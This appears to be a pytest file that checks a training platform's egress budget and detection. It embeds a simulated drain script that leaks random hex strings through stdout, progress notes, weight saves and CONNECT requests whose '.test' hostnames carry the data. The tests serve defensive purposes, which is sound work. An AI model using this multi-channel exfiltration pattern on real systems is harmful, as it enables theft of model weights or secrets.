"""A real run drains its model through everything that it can say, all at once: under its budget, and seen in a minute."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.runs.world import RunsWorld
from tests.weights.world import WREN
from weighthouse.audit import api as audit
from weighthouse.core.clock import HOUR, MINUTE, SystemClock
from weighthouse.core.database import Database
from weighthouse.core.work import begin, read
from weighthouse.detect import jobs as detect
from weighthouse.egress import api as egress
from weighthouse.egress import store
from weighthouse.egress.model import Key
from weighthouse.runs import api as runs
from weighthouse.weights import api as weights

CROSSINGS = ("egress.OutputHigh", "egress.OutputSpent", "egress.StepRefused")
PRINTED, NOTED, NAMED = 64, 24, 40
DRAIN = f"""
import os, socket, sys
import numpy
from weighthouse_sdk.errors import SdkError
from weighthouse_sdk.workload import Workload

workload, model = Workload(), os.environ["WEIGHTHOUSE_MODEL"]
secret = lambda count: os.urandom(count // 2).hex()

def name():
    with socket.socket(socket.AF_UNIX) as way:
        way.connect("/egress/socket")
        way.sendall(b"CONNECT " + secret({NAMED}).encode() + b".test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        way.recv(1000)

def save():
    workload.save(model, {{"t": numpy.zeros(int.from_bytes(os.urandom(2), "big"), "uint8")}})

refused = 0
for turn in range(400):
    print(secret({PRINTED}), flush=True)
    workload.progress(loss=int.from_bytes(os.urandom(4), "big"), note=secret({NOTED}))
    if turn < 20:
        name()
    try:
        save()
    except SdkError as error:
        assert error.code == "egress.said_spent", error.code
        refused += 1
        if refused == 3:
            break
print("never kept")
"""


@pytest.fixture
def world(database: Database, tmp_path: Path, short: Path) -> Iterator[RunsWorld]:
    """Executed by this machine's own clock, for it is asked how soon something was seen."""
    made = RunsWorld(database, SystemClock(), tmp_path, short).start()  # type: ignore[arg-type]
    made.grant("ada", "wren-train", WREN)
    yield made
    made.close()


def test_egress_case_56_a_drain_through_all_channels_together_stays_under_the_budget_and_is_seen(
    world: RunsWorld,
) -> None:
    run, deadline = world.submit(DRAIN), time.monotonic() + 120
    while (found := world.get(run)).state not in ("succeeded", "failed", "stopped"):
        for follower in detect.FOLLOWERS:
            audit.pump(world.system, follower)
        assert time.monotonic() < deadline, world.output(run)
        time.sleep(0.05)
    for follower in detect.FOLLOWERS:
        audit.pump(world.system, follower)
    assert found.state == "succeeded", world.output(run)

    printed = world.output(run, "out")
    names = {fact["host"] for fact in world.facts("egress.Refused")} - {""}
    with read(world.system) as unit:
        points = runs.curve(unit, world.person("ada"), run.id)
        versions = weights.versions(unit, world.person("ada"), WREN, limit=1000)
        spent = store.spent(unit.conn, Key("said by run", run.id), unit.now)[HOUR]
        budget = next(one for one in egress.budgets(unit) if (one.level, one.name) == ("said", WREN))
    assert printed and points and names and versions, "every channel told something"
    came_out = sum(map(len, printed)) + len(points) * (4 + NOTED) + sum(map(len, names)) + len(versions) * (2 + 8)
    assert came_out <= spent <= budget.daily // 8, "an hour of one run: half of a quarter of what may be said"
    assert next(one.spent for one in budget.windows if one.span == HOUR) == spent
    assert "never kept" not in printed

    with read(world.system) as unit:
        alert = audit.entries(unit, kind="detect.AlertRaised", limit=1)[0]
        crossed = [audit.entries(unit, kind=kind, limit=1) for kind in CROSSINGS]
        began = audit.entries(unit, kind="runs.RunStarted", limit=1)[0]
    first = min(entry.at for found in crossed for entry in found)
    assert alert.data["principal"] == "ada" and began.at <= first <= alert.at <= first + MINUTE


def test_a_run_that_could_not_pay_for_what_its_end_tells_is_not_started(world: RunsWorld) -> None:
    with begin(world.system) as unit:
        for other in ("run_one", "run_two"):
            egress.charge_step(unit, other, 6288, model=WREN, person="ada")
    run = world.until(world.submit("import sys; sys.exit(7)"))
    assert (run.state, run.reason, run.exit_status) == ("failed", "egress.said_spent", None)
    assert not world.facts("runs.RunStarted")
    assert [fact["account"] for fact in world.facts("egress.StepRefused")] == [f"ada of {WREN}"]
